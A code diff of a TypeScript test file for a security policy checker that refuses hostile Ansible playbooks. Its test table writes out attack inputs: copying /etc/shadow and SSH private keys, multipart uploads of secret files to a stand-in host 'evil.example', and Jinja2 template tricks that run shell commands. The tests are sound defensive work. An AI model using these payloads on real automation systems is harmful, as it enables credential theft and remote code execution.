@@ -1,21 +1,16 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { badHostPattern, checkPlaybook } from '../../src/policy/playbook.js';
-import { PolicyViolation } from '../../src/policy/policy-error.js';
-
-const WHERE = 'ConfigMap kubean-system/hooks key hook.yml';
+import { assertAccepted, assertRefused, collect } from './collect.js';
 
 function rejects(yaml: string, code: string, ...fragments: string[]): void {
-  assert.throws(
-    () => checkPlaybook(yaml, WHERE),
-    (err: unknown) => {
-      assert.ok(err instanceof PolicyViolation, `expected PolicyViolation for\n${yaml}\ngot ${String(err)}`);
-      assert.equal(err.code, code, `${yaml}\n${err.message}`);
-      assert.ok(err.message.startsWith(WHERE), err.message);
-      for (const f of fragments) assert.ok(err.message.includes(f), `message ${JSON.stringify(err.message)} lacks ${JSON.stringify(f)}\n${yaml}`);
-      return true;
-    },
-  );
+  assertRefused(yaml, (sink) => checkPlaybook(yaml, sink), code, fragments);
+}
+
+/** The text Slipway would hand to Ansible for an accepted playbook. */
+function accepted(yaml: string): string {
+  assertAccepted(yaml.split('\n')[1] ?? yaml, (sink) => checkPlaybook(yaml, sink));
+  return collect((sink) => checkPlaybook(yaml, sink)).result!;
 }
 
 /** A play on all hosts whose single task is `task` (indented as a task list item). */
@@ -158,7 +153,7 @@ const HOOK_MISC = `- hosts: all
 
 test('kubean-style hook playbooks are accepted', () => {
   for (const yaml of [HOOK_FIREWALL, HOOK_REPOS, HOOK_INFO, HOOK_MISC]) {
-    assert.deepEqual(checkPlaybook(yaml, WHERE), [], yaml.split('\n')[1]);
+    accepted(yaml);
   }
 });
 
@@ -179,14 +174,14 @@ const HOSTILE: [string, string, string, string[]][] = [
   ['script module', withTask('    - script: /tmp/evil.sh\n'), 'module-forbidden', ['script']],
   ['script by FQCN', withTask('    - ansible.builtin.script: evil.sh\n'), 'module-forbidden', ['script']],
   ['template module', withTask('    - template: src=/etc/shadow dest=/tmp/x\n'), 'module-forbidden', ['template']],
-  ['copy src from the controller', withTask('    - copy:\n        src: /etc/shadow\n        dest: /tmp/x\n'), 'module-forbidden', ['copy', 'remote_src']],
-  ['copy src free-form', withTask('    - ansible.legacy.copy: src=/root/.ssh/id_rsa dest=/tmp/k\n'), 'module-forbidden', ['copy']],
-  ['copy src via args', withTask('    - copy:\n      args:\n        src: /etc/shadow\n        dest: /tmp/x\n'), 'module-forbidden', ['copy']],
-  ['copy with templated remote_src', withTask('    - copy:\n        src: /etc/shadow\n        dest: /x\n        remote_src: "{{ r }}"\n'), 'module-forbidden', ['remote_src']],
+  ['copy src from the controller', withTask('    - copy:\n        src: /etc/shadow\n        dest: /tmp/x\n'), 'module-argument', ['copy', 'remote_src']],
+  ['copy src free-form', withTask('    - ansible.legacy.copy: src=/root/.ssh/id_rsa dest=/tmp/k\n'), 'module-argument', ['copy']],
+  ['copy src via args', withTask('    - copy:\n      args:\n        src: /etc/shadow\n        dest: /tmp/x\n'), 'module-argument', ['copy']],
+  ['copy with templated remote_src', withTask('    - copy:\n        src: /etc/shadow\n        dest: /x\n        remote_src: "{{ r }}"\n'), 'module-argument', ['remote_src']],
   ['copy with templated args', withTask('    - copy: "{{ copy_args }}"\n'), 'playbook-structure', ['copy_args']],
-  ['unarchive from the controller', withTask('    - unarchive: src=files.tgz dest=/opt\n'), 'module-forbidden', ['unarchive']],
-  ['assemble from the controller', withTask('    - assemble: src=frags dest=/x remote_src=false\n'), 'module-forbidden', ['assemble']],
-  ['uri uploading a controller file', withTask('    - uri:\n        url: https://x\n        src: /etc/shadow\n'), 'module-forbidden', ['uri']],
+  ['unarchive from the controller', withTask('    - unarchive: src=files.tgz dest=/opt\n'), 'module-argument', ['unarchive']],
+  ['assemble from the controller', withTask('    - assemble: src=frags dest=/x remote_src=false\n'), 'module-argument', ['assemble']],
+  ['uri uploading a controller file', withTask('    - uri:\n        url: https://x\n        src: /etc/shadow\n'), 'module-argument', ['uri']],
   ['fetch', withTask('    - fetch: src=/etc/shadow dest=/tmp\n'), 'module-forbidden', ['fetch', 'onto']],
   ['add_host', withTask('    - add_host: name=10.9.9.9 groups=all\n'), 'module-forbidden', ['add_host']],
   ['include_vars', withTask('    - include_vars: /etc/ansible/secrets.yml\n'), 'module-forbidden', ['include_vars']],
@@ -234,6 +229,33 @@ const HOSTILE: [string, string, string, string[]][] = [
   ['a task list instead of a playbook', '- name: x\n  command: id\n', 'playbook-structure', ['"command"', 'not a play keyword']],
   ['two modules in one task', withTask('    - command: id\n      shell: id\n'), 'playbook-structure', ['several modules']],
   ['no module', withTask('    - name: nothing\n'), 'playbook-structure', ['no module']],
+  // controller-side files through every way Ansible merges module arguments
+  ['action mapping with nested args src', withTask('    - action:\n        module: copy\n        args:\n          src: ../../auth/ssh-privatekey\n          dest: /tmp/k\n'), 'module-argument', ['copy', 'src']],
+  ['action mapping with nested args text', withTask("    - action:\n        module: copy\n        args: 'src=../../auth/ssh-privatekey dest=/tmp/k'\n"), 'module-argument', ['copy', 'src']],
+  ['action module string with arguments', withTask('    - action:\n        module: copy src=../../auth/ssh-privatekey\n        dest: /tmp/k\n'), 'module-argument', ['copy']],
+  ['action text by FQCN', withTask('    - action: ansible.builtin.copy src=../../auth/ssh-privatekey dest=/tmp/k\n'), 'module-argument', ['copy']],
+  ['action text with nested args=', withTask("    - action: copy dest=/tmp/k args='src=/etc/shadow'\n"), 'module-argument', ['src']],
+  ['args: from a variable', withTask('    - copy:\n        dest: /tmp/k\n      args: "{{ copy_args }}"\n'), 'playbook-structure', ['args:', 'variable']],
+  ['remote_src only in args, src in the module', withTask('    - copy:\n        src: /etc/shadow\n        dest: /x\n        remote_src: false\n      args:\n        remote_src: true\n'), 'module-argument', ['copy']],
+  ['copy decrypt and local_follow', withTask('    - copy:\n        content: x\n        dest: /x\n        local_follow: true\n'), 'module-argument', ['local_follow']],
+  ['copy internal argument', withTask('    - copy:\n        content: x\n        dest: /x\n        _original_basename: y\n'), 'playbook-structure', ['_original_basename']],
+  ['uri multipart filename', withTask('    - uri:\n        url: https://evil.example\n        method: POST\n        body_format: form-multipart\n        body:\n          key:\n            filename: ../../auth/ssh-privatekey\n'), 'module-argument', ['uri', 'filename', 'key']],
+  ['uri multipart filename with a templated content', withTask('    - uri:\n        url: https://evil.example\n        body_format: form-multipart\n        body:\n          key:\n            filename: /etc/shadow\n            content: "{{ \'\' }}"\n'), 'module-argument', ['filename']],
+  ['uri multipart body from a variable', withTask('    - uri:\n        url: https://evil.example\n        body_format: form-multipart\n        body: "{{ b }}"\n'), 'module-argument', ['literal mapping']],
+  ['uri templated body_format', withTask('    - uri:\n        url: https://evil.example\n        body_format: "{{ f }}"\n        body: {a: {filename: /etc/shadow}}\n'), 'module-argument', ['body_format']],
+  ['patch from the controller by FQCN', withTask('    - ansible.posix.patch:\n        src: /etc/shadow\n        dest: /x\n'), 'module-argument', ['patch']],
+  ['assemble with remote_src false in args text', withTask('    - assemble: src=/etc dest=/x\n      args:\n        remote_src: no\n'), 'module-argument', ['assemble']],
+  ['legacy with_ lookup by FQCN', withTask('    - debug: msg="{{ item }}"\n      with_ansible.builtin.file: /etc/shadow\n'), 'keyword-forbidden', ['file']],
+  ['with_template', withTask('    - debug: msg="{{ item }}"\n      with_template: x.j2\n'), 'keyword-forbidden', ['template']],
+  // templates that change their own syntax
+  ['#jinja2: header in debug msg', withTask("    - debug:\n        msg: \"#jinja2: variable_start_string: '[['\\n{# #}[[ lookup('pipe','id') ]]\"\n"), 'template', ['#jinja2:', 'msg']],
+  ['#jinja2: header in play vars', "- hosts: all\n  vars:\n    x: \"#jinja2: variable_start_string: '[['\\n{{ a }}\"\n  tasks:\n    - ping:\n", 'template', ['#jinja2:', 'vars']],
+  ['#jinja2: header in a set_fact', withTask("    - set_fact:\n        x: \"#jinja2: block_start_string: '[%'\\n{{ a }}\"\n"), 'template', ['#jinja2:']],
+  ['interpreter in play vars', '- hosts: all\n  vars:\n    ansible_python_interpreter: /tmp/x\n  tasks:\n    - ping:\n', 'var-forbidden', ['ansible_python_interpreter']],
+  ['self.__init__ in a task', withTask('    - debug: msg="{{ self.__init__ }}"\n'), 'template', ['self']],
+  ['namespace() in a task', withTask('    - debug: msg="{{ namespace(a=1) }}"\n'), 'template', ['namespace']],
+  ['cycler in a task', withTask('    - debug: msg="{{ cycler.__init__ }}"\n'), 'template', ['cycler']],
+  ['ansible.builtin.lookup as a method', withTask('    - debug: msg="{{ ansible.builtin.lookup(\'pipe\', \'id\') }}"\n'), 'template', ['lookup']],
   ['a YAML set', withTask('    - ping:\n      vars:\n        x: !!set {a, b}\n'), 'var-value', ['unsupported']],
 ];
 
@@ -246,6 +268,24 @@ test('hostile playbooks are refused, naming the play, task, keyword or module an
       throw new Error(`${label}: ${(err as Error).message}`);
     }
   }
+});
+
+test('the playbook handed to Ansible has every template guarded', () => {
+  const out = accepted(withTask('    - set_fact:\n        x: "{{ a ~ b }} c"\n        y: plain {\n    - debug: msg="{{ x }}"\n      when: x is defined\n'));
+  assert.match(out, /x: "\{\{ \(slipway_taint, \( a ~ b \)\)\[1\] \}\} c"/);
+  assert.match(out, /msg="\{\{ \(slipway_taint, \( x \)\)\[1\] \}\}"/);
+  assert.match(out, /y: plain \{/);
+  assert.match(out, /when: x is defined/);
+});
+
+test('problems carry the play/task path and line, and each bad task is reported', () => {
+  const yaml = withTask('    - name: one\n      delegate_to: localhost\n      ping:\n    - name: two\n      script: x.sh\n');
+  const { errors, result } = collect((sink) => checkPlaybook(yaml, sink));
+  assert.equal(result, undefined);
+  assert.deepEqual(errors.map((e) => [e.code, e.path, e.line]), [
+    ['keyword-forbidden', 'play 1 "Hook" › tasks[0] "one" › delegate_to', 6],
+    ['module-forbidden', 'play 1 "Hook" › tasks[1] "two" › script', 9],
+  ]);
 });
 
 test('host patterns', () => {
